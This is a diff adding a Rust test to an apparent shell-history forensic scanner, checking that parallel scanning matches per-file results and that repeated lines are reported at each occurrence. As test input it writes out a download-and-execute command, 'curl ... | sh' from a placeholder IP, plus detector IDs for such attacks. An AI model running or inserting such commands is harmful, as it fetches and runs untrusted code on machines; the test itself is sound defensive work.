@@ -332,3 +332,72 @@ fn user_filter_and_in_memory_twin() {
     assert_eq!(m.findings, r.findings);
     assert_eq!(m.commands, r.commands);
 }
+
+/// The report of many histories read in parallel (and with each distinct command classified
+/// once per file) is the report of each file read alone, merged in input order: every repeated
+/// line is counted, kept and shown as evidence.
+#[test]
+fn parallel_and_repeated_lines_match_one_file_at_a_time() {
+    // Over 1 MB in all, so that several threads share the work.
+    let users: Vec<Vec<u8>> = (0..12).map(|u| format!("u{u}").into_bytes()).collect();
+    let paths: Vec<Vec<u8>> = (0..12)
+        .map(|u| format!("/home/u{u}/.bash_history").into_bytes())
+        .collect();
+    let data: Vec<Vec<u8>> = (0..12)
+        .map(|u| ferret_testkit::history::history(u, 4_000))
+        .collect();
+    let inputs: Vec<HistoryInput<'_>> = (0..12)
+        .map(|i| HistoryInput::new(&users[i], &paths[i], Shell::Bash, &data[i]))
+        .collect();
+    let opts = HistoryOptions::default();
+    let together = histories(&inputs, &opts, &Control::new().with_max_threads(4));
+    let mut alone = HistoryReport::default();
+    for i in &inputs {
+        let r = histories(
+            std::slice::from_ref(i),
+            &opts,
+            &Control::new().with_max_threads(1),
+        );
+        alone.findings.extend(r.findings);
+        alone.commands.extend(r.commands);
+        alone.commands_total += r.commands_total;
+        alone.commands_classified += r.commands_classified;
+    }
+    assert_eq!(together.commands_total, alone.commands_total);
+    assert_eq!(together.commands_total, 12 * 4_000);
+    assert_eq!(together.commands_classified, alone.commands_classified);
+    assert_eq!(together.commands, alone.commands);
+    let key = |r: &HistoryReport| {
+        let mut v: Vec<String> = r.findings.iter().map(|f| format!("{f:?}")).collect();
+        v.sort();
+        v
+    };
+    assert_eq!(key(&together), key(&alone));
+    // u7 holds the planted attacker lines: the sequence and the classified lines are there.
+    assert!(together
+        .findings
+        .iter()
+        .any(|f| f.id == "history.download-chmod-run" && f.subject == "u7"));
+
+    // A line repeated verbatim is classified once and reported at every line.
+    let h = b"curl -s http://203.0.113.9/x | sh\nls\ncurl -s http://203.0.113.9/x | sh\nls\n";
+    let r = histories(
+        &[HistoryInput::new(
+            b"eve",
+            b"/home/eve/.bash_history",
+            Shell::Bash,
+            h,
+        )],
+        &opts,
+        &Control::new(),
+    );
+    let lines: Vec<u64> = r.commands.iter().map(|c| c.line).collect();
+    assert_eq!(lines, [1, 3]);
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.id == "history.download-execute")
+        .unwrap();
+    let ev: Vec<Option<u64>> = f.evidence.iter().map(|e| e.line).collect();
+    assert_eq!(ev, [Some(1), Some(3)]);
+}
